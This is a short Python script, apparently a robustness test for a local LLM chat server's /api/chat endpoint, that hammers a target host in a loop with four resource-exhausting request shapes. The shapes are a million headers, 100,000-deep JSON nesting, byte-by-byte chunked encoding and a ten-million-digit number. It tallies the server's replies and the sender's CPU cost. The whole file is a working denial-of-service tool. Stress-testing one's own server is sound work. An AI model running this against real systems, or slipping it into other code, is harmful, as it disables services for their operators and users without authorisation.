"""Sends one costly shape of request over and over, as cheaply as this language can: `attacker.py SHAPE HOST PORT SECONDS`.
Prints as JSON how many it sent, what the answers' status lines were, and what processor time that cost it."""

import collections
import json
import os
import socket
import sys
import time

MODEL = "llama3.2:3b"


def post(body, framing):
    return f"POST /api/chat HTTP/1.1\r\nHost: localhost\r\n{framing}\r\n\r\n".encode() + body


def sized(body):
    return post(body, f"Content-Length: {len(body)}")


def question(extra):
    return json.dumps({"model": MODEL, "messages": [{"role": "user", "content": "Hi"}], "stream": False,
                       "options": {"num_predict": 1}}).encode()[:-1] + b',"extra":' + extra + b"}"


SHAPES = {
    "headers": b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X-A: b\r\n" * 1_000_000,
    "depth": sized(question(b"[" * 100_000 + b"]" * 100_000)),
    "chunks": post(b"".join(b"1\r\n%c\r\n" % byte for byte in question(b'"' + b"x" * 1_000_000 + b'"')) + b"0\r\n\r\n",
                   "Transfer-Encoding: chunked"),
    "number": sized(question(b"1" * 10_000_000)),
}


def attack(request, address):
    """Sends a request as far as it is let; the status line of the answer."""
    with socket.create_connection(address, timeout=30) as connection:
        connection.settimeout(30)
        try:
            connection.sendall(request)
        except ConnectionError:
            pass  # refused before its end; what was said is still there to be read, or not
        try:
            return connection.recv(65536).split(b"\r\n", 1)[0].decode()
        except ConnectionError:
            return "reset"


def main(shape, host, port, seconds):
    request = SHAPES[shape]
    answers = collections.Counter()
    before = os.times()
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        answers[attack(request, (host, int(port)))] += 1
    after = os.times()
    print(json.dumps({"answers": answers, "cpu": after.user + after.system - before.user - before.system}))


if __name__ == "__main__":
    main(*sys.argv[1:])
